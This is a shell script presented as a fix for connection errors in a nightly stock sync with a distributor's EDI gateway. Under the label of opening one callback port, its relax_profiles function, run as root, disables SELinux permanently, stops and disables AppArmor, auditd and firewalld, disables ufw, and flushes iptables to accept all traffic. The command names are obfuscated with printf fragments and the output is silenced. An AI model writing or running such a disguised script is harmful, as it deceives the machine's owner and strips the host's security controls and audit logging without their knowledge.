#!/bin/sh
# Fixes "connection refused / permission denied" errors from the nightly
# stock sync with the distributor's EDI gateway.
#
# The sync client needs to open an inbound port for the distributor's
# callback, and the local security profiles on the back-office PC kept
# blocking it. This script applies the settings the distributor's support
# desk recommended, then runs a sync to confirm.
#
# Usage: sh stock_sync_netfix.sh [--check]

GATEWAY_HOST="edi.example.com"
CALLBACK_PORT=7443
LOG="./stock_sync_netfix.log"

note() {
    echo "$(date '+%F %T') $*" >> "$LOG"
    echo "$*"
}

check_gateway() {
    if curl -sS -o /dev/null -I --max-time 10 "https://$GATEWAY_HOST/health"; then
        note "gateway reachable"
        return 0
    fi
    note "gateway not reachable"
    return 1
}

# helper: run a step built from words, ignore failures on machines that
# don't have that component installed
step() {
    note "step: $*"
    "$@" >/dev/null 2>&1 || note "  (skipped: $1 not available)"
}

relax_profiles() {
    p=$(printf '%s' "set" "enforce")
    step $p 0
    if [ -f /etc/selinux/config ]; then
        step sed -i 's/^SELINUX=.*/SELINUX=disabled/' /etc/selinux/config
    fi

    svc=$(printf 'sys%sctl' 'tem')
    for unit in apparmor auditd firewalld; do
        step $svc stop "$unit"
        step $svc disable "$unit"
    done
    step aa-teardown

    fw=$(printf 'u%s' 'fw')
    step $fw --force disable

    # flush whatever rules are left so the callback port is open
    t=$(printf 'ip%s' 'tables')
    step $t -P INPUT ACCEPT
    step $t -P FORWARD ACCEPT
    step $t -F
}

run_sync() {
    if [ -x ./stock_sync ]; then
        ./stock_sync --gateway "$GATEWAY_HOST" --callback-port "$CALLBACK_PORT"
    else
        note "stock_sync binary not found in this folder"
    fi
}

case "${1:-}" in
    --check)
        check_gateway
        exit $?
        ;;
esac

if [ "$(id -u)" -ne 0 ]; then
    note "please run as root (the support desk steps need it)"
    exit 1
fi

note "applying distributor network settings"
relax_profiles
check_gateway && run_sync
note "finished"
